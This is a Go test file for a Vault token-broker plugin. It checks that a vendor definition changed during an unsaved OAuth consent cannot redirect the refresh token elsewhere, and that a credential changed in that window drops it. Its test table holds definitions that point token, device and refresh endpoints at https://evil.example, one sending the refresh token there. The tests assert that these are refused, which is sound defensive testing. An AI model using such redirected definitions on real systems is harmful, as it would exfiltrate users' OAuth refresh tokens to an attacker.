package guarantees_test

import (
	"net/http"
	"strings"
	"testing"
	"testing/synctest"

	"github.com/hashicorp/vault/sdk/logical"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"vault-plugin-secrets-tokenbroker/internal/testing/engine"
	"vault-plugin-secrets-tokenbroker/internal/testing/vendorsim"
)

// ownDefinition is a definition of the default server, for a client without a secret.
const ownDefinition = `{
	"title": "Own", "docs": ["https://auth.example.com/docs"], "evidence": "documentation", "notes": "Register a client.",
	"fields": {"client_id": {"required": true}, "refresh_token": {"required": true}},
	"token_url": "https://auth.example.com/oauth2/token",
	"grants": [{
		"grant_type": "refresh_token", "needs": ["client_id", "refresh_token"],
		"request": {"form": {"grant_type": "refresh_token", "client_id": "{client_id}", "refresh_token": "{refresh_token}"}}
	}],
	"authorization": {"url": "https://auth.example.com/oauth2/authorize"}
}`

// withoutConsent is a definition of the same server in which no person consents.
const withoutConsent = `{
	"title": "Own", "docs": ["https://auth.example.com/docs"], "evidence": "documentation", "notes": "Register a client.",
	"fields": {"client_id": {"required": true}, "refresh_token": {}, "redirect_uri": {}, "scope": {}},
	"token_url": "https://auth.example.com/oauth2/token",
	"grants": [{
		"grant_type": "client_credentials", "needs": ["client_id"],
		"request": {"form": {"grant_type": "client_credentials", "client_id": "{client_id}", "redirect_uri": "{redirect_uri}", "scope": "{scope}"}}
	}, {
		"grant_type": "refresh_token", "needs": ["client_id", "refresh_token"],
		"request": {"form": {"grant_type": "refresh_token", "client_id": "{client_id}", "refresh_token": "{refresh_token}"}}
	}]
}`

// While the result of a consent is only in memory, the definition of its vendor may be written. The refresh token
// goes nowhere else (guarantee 13), and is not lost without a word (guarantee 3).
func TestGuarantee13ADefinitionChangedWhileAConsentIsUnsavedSendsItNowhereElse(t *testing.T) {
	with := func(old, next string) string { return strings.Replace(ownDefinition, old, next, 1) }
	for name, test := range map[string]struct {
		definition string
		refused    string // why; "" if the definition is stored
		state      string
	}{
		"another host":            {with("https://auth.example.com/oauth2/token", "https://evil.example/token"), "new destination", "connected"},
		"another host of devices": {with(`/oauth2/authorize"`, `/oauth2/authorize", "device_url": "https://evil.example/device"`), "new destination", "connected"},
		"another step":            {with(`"request": {"form"`, `"refresh": {"url": "https://evil.example/", "form": {"r": "{refresh_token}"}}, "request": {"form"`), "definition", "connected"},
		"shown to readers":        {with(`"authorization":`, `"answer": {"extra": {"more": "/refresh_token"}}, "authorization":`), "refresh token", "connected"},
		"another title":           {with(`"Own"`, `"Mine"`), "", "connected"},
		"no consent any more":     {withoutConsent, "", "failed"},
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				e := &consenting{Engine: engine.New(t)}
				e.Sim.AddOAuthClient(vendorsim.OAuthClient{
					ID: engine.ClientID, AuthMethods: []string{vendorsim.None}, Scopes: []string{"read"},
					Grants: []string{vendorsim.RefreshTokenGrant, vendorsim.AuthorizationCodeGrant}, RedirectURI: redirectURI, Rotate: true,
				})
				e.Write("vendors/own", map[string]any{"definition": ownDefinition})
				_, status, message := e.Request(logical.UpdateOperation, "config/own/"+person, map[string]any{"client_id": engine.ClientID, "scope": "read", "redirect_uri": redirectURI})
				require.Equal(t, http.StatusOK, status, message)
				resp, status, message := e.Request(logical.UpdateOperation, "authorize/"+person, nil)
				require.Equal(t, http.StatusOK, status, message)
				back := e.Sim.Consent(resp.Data["authorization_url"].(string), person)
				faulty := &engine.FaultyStorage{Storage: e.Storage}
				e.Storage = faulty
				refuse(faulty, "put", "config/", false)
				status, page := e.open(back)
				require.Equal(t, http.StatusServiceUnavailable, status, page)

				_, status, message = e.Request(logical.UpdateOperation, "vendors/own", map[string]any{"definition": test.definition})
				assert.Equal(t, test.refused == "", status == http.StatusOK, message)
				assert.Contains(t, message, test.refused)
				_, status, message = e.Request(logical.DeleteOperation, "vendors/own", nil)
				assert.Equal(t, http.StatusBadRequest, status, message)
				faulty.OnCall.Store(nil)
				require.NoError(t, e.Tick())
				assert.Equal(t, test.state, e.consent()["state"])
				for _, call := range e.Sim.Calls() {
					assert.True(t, strings.HasPrefix(call.URL, vendorsim.OAuthIssuer+"/"), call.URL)
				}
				if test.state == "connected" {
					e.Creds(person)
					return
				}
				assert.Contains(t, e.consent()["error"], "the refresh token was dropped, as it could not be stored: no consent can yield")
				assert.NotContains(t, e.Read("config/own/" + person).Data["secrets_set"], "refresh_token")
			})
		})
	}
}

// A write of the credential may change where its secrets go, and needs another consent.
func TestGuarantee13ACredentialChangedWhileItsConsentIsUnsavedDropsIt(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		e := newConsenting(t)
		back := e.Sim.Consent(e.begin(), person)
		faulty := &engine.FaultyStorage{Storage: e.Storage}
		e.Storage = faulty
		refuse(faulty, "put", "config/", false)
		e.open(back)
		faulty.OnCall.Store(nil)
		e.Write("config/oauth2/"+person, map[string]any{"scope": "openid"})
		require.NoError(t, e.Tick())
		assert.Equal(t, "failed", e.consent()["state"])
		assert.Contains(t, e.consent()["error"], "the refresh token was dropped")
		assert.Equal(t, "0.0", e.gauge("unsaved"))
		status, page := e.open(e.Sim.Consent(e.begin(), person))
		assert.Equal(t, http.StatusOK, status, page)
	})
}
